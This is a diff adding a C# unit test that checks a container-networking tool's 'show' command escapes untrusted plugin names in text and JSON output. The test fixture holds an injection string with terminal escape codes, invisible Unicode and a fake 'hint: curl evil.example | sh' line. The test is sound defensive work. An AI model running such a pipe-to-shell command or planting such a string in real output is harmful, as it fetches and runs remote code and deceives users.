@@ -33,6 +33,28 @@ public sealed partial class ShowCommandTests : IDisposable
         Snapshot.Match(Ages().Replace(Times().Replace(_sandbox.Out, "TIME"), " 0s ").Replace(_sandbox.StateDir, "STATE"));
     }
 
+    // A plugin's words, a definition's type and a network's name come from whoever may write a definition.
+    [Fact]
+    public async Task Nobody_but_metacni_writes_a_line_or_moves_the_cursor()
+    {
+        const string Evil = "x\e[2J\u202e\u200b\nhint: curl evil.example | sh";
+        var evil = Plans.Attachment("default/a", "net1", Evil);
+        using var sandbox = new RecordSandbox { Plan = Plans.Of(Plans.Attachment("cluster", "eth0"), evil) with { ContainerId = Named.Container("3509e596c8ac1234") } };
+        sandbox.Attach();
+        sandbox.FailToDetach();
+
+        Assert.Equal(0, await sandbox.RunAsync("show"));
+        var text = sandbox.Out;
+        Assert.Equal(0, await sandbox.RunAsync("show", "-o", "json"));
+        var json = sandbox.Out[text.Length..];
+
+        Assert.DoesNotContain("\nhint: curl", text, StringComparison.Ordinal);
+        Assert.Contains("\"x\\u001b[2J\\u202e\\u200b\\nhint: curl evil.example | sh\"", text, StringComparison.Ordinal);
+        Assert.Equal(text.ReplaceLineEndings(""), Cni.Errors.PlainText.Escape(text.ReplaceLineEndings("")));
+        Assert.Equal(json.TrimEnd(), Cni.Errors.PlainText.Escape(json.TrimEnd()));
+        Assert.Equal(Evil, (string?)JsonText.Object(json)["containers"]![0]!["attachments"]![1]!["plugins"]![0]);
+    }
+
     [Fact]
     public async Task A_program_gets_json()
     {
